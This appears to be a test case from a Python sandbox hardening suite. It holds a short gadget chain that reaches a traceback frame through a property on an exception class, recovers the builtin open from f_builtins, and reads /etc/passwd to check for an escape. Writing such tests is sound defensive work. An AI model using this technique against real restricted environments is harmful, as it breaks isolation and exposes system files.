# tries: the methods of a context manager are readers in C
# class: gadgets
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import operator


class E(Exception):
    __enter__ = property(operator.attrgetter("__traceback__.tb_frame"))
    __exit__ = None


try:
    raise E
except E as error:
    frame = error.__enter__
use(pick(frame))
